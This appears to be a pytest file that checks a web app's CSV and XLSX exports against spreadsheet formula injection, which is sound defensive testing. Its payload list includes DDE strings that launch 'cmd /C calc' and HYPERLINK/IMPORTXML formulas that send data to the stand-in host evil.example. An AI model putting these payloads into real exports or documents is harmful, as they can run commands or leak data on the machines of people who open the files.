"""Check 18: nothing that people write calculates in the table that staff open."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Sequence

import pytest
from openpyxl import load_workbook

from pin_app import exports
from pin_app.db import db
from pin_app.exchange.services import exporting
from pin_app.profiles.models import Profile, Statement
from tests.factories.people import person, signed_in
from tests.inspector import Inspector

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "'=1+1", '"=1+1', '";=1+1;"', "a,=1+1", "a\n=1+1",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', '@DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://evil.example/?"&A1;"click")', "=IMPORTXML(\"http://evil.example\";\"//a\")",
    "\x0b=1+1", "\x00=1+1", "=\u202e1+1", "{=1+1}", "%0A=1+1", "<f>1+1</f>", "&#61;1+1", "_x003D_1+1",
)  # fmt: skip
STORED = tuple(payload for payload in PAYLOADS if "\0" not in payload)  # PostgreSQL keeps no NUL
PHONE = "+393331234567"
# What a spreadsheet would begin to calculate: nothing but white space and unseen signs before one of these.
CALCULATES = re.compile(r"[\s\x00-\x1f\u00a0\u200b-\u200f\u202a-\u202e\u2060\ufeff]*[=+\-@＝＋－＠]")
TELEPHONE = re.compile(r"\+\d[\d ]+\d")
Grid = list[list[str]]


@pytest.fixture
def staff(client: Inspector) -> Inspector:
    """Somebody of staff, and one profile for each payload in name, firm and text."""
    for payload in STORED:
        profile = Profile(
            kind="italian_firm", name=payload, legal_name=payload, contact_name=payload, phone=PHONE,
            country="IT", state="published", about=payload, city=payload,
        )  # fmt: skip
        db.session.add_all([profile, Statement(profile=profile, direction="offer", text=payload, sectors=[])])
    db.session.commit()
    return signed_in(client, person(role="staff"))


def csv_cells(content: bytes, separator: str) -> Grid:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))


def sheet_cells(content: bytes) -> Grid:
    rows = load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)
    return [[str(cell or "") for cell in row] for row in rows]


def calculating(cells: Grid) -> list[str]:
    flat = [cell for row in cells for cell in row]
    return [cell for cell in flat if CALCULATES.match(cell) and not TELEPHONE.fullmatch(cell)]


def sheet_xml(content: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize(("language", "separator"), [("it", ";"), ("en", ","), ("ur", ",")])
def test_no_cell_of_the_csv_for_excel_calculates(staff: Inspector, language: str, separator: str) -> None:
    cells = csv_cells(staff.get(f"/exchange/profiles/csv-excel?lang={language}").data, separator)
    assert (len(cells), calculating(cells)) == (len(STORED) + 1, [])


def test_every_cell_of_the_workbook_is_text(staff: Inspector) -> None:
    content = staff.get("/exchange/profiles/xlsx").data
    xml = sheet_xml(content)
    assert (len(sheet_cells(content)), "<f" in xml) == (len(STORED) + 1, False)
    assert set(re.findall(r'<c [^>]*?t="(\w+)"', xml)) == {"inlineStr"}
    assert len(re.findall("<c ", xml)) == xml.count('t="inlineStr"')


def test_the_csv_for_machines_says_so_and_is_unaltered(staff: Inspector) -> None:
    cells = csv_cells(staff.get("/exchange/profiles/csv").data, ",")
    names = [row[cells[0].index("name")] for row in cells[1:]]
    assert names == list(STORED)
    staff.get("/exchange")
    assert "Never open it in a spreadsheet" in staff.words


@pytest.mark.parametrize("kind", ["csv-excel", "xlsx"])
def test_telephones_are_whole(staff: Inspector, kind: str) -> None:
    content = staff.get(f"/exchange/profiles/{kind}").data
    cells = csv_cells(content, ",") if kind == "csv-excel" else sheet_cells(content)
    assert {row[cells[0].index("phone")].replace(" ", "") for row in cells[1:]} == {PHONE}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_titles_of_columns_do_not_calculate_either(payload: str) -> None:
    grid: Sequence[Sequence[str]] = [[payload, "name"], ["x", "y"]]
    target = io.BytesIO()
    exports.write_xlsx(target, grid)
    assert "<f" not in sheet_xml(target.getvalue())
    assert calculating(csv_cells("".join(exports.csv_for_excel(grid)).encode(), ";")) == []


def test_titles_of_a_sender_do_not_calculate_in_the_report(staff: Inspector) -> None:
    table = "external_id,kind,name,country,=1+1\n=x,italian_firm,@SUM(1),IT,a\n-y,martian,+1+1,IT,b\n"
    staff.get("/exchange")
    answer = staff.post("/exchange", {"table": (io.BytesIO(table.encode()), "=evil.csv")})
    report = staff.get(f"{answer.headers['Location']}/report.csv").data
    assert calculating(csv_cells(report, ",")) == []


@pytest.mark.parametrize("planted", ["neutral", "write_string"])
def test_a_missing_neutraliser_is_seen(
    staff: Inspector, monkeypatch: pytest.MonkeyPatch, planted: str
) -> None:
    """The planted fault: texts go out as they came in."""
    if planted == "neutral":
        monkeypatch.setattr(exports, "neutral", lambda text: text)
        assert len(calculating(csv_cells(staff.get("/exchange/profiles/csv-excel").data, ","))) > 100
    else:
        monkeypatch.setattr("xlsxwriter.worksheet.Worksheet.write_string", _as_typed())
        assert "<f" in sheet_xml(staff.get("/exchange/profiles/xlsx").data)


def _as_typed() -> Callable[..., int]:
    from xlsxwriter.worksheet import Worksheet  # noqa: PLC0415 -- the class that is being patched

    whole = Worksheet._write_string
    calculates = Worksheet._write_formula

    def write(self: Worksheet, row: int, column: int, text: str, *_form: object) -> int:
        typed = calculates if text.startswith("=") else whole
        return int(typed(self, row, column, text))

    return write


def test_the_rows_of_the_export_hold_the_payloads(staff: Inspector) -> None:
    """So that the checks above look at something."""
    found = list(exporting.export_rows())
    assert [row[2] for row in found[1:]] == list(STORED)
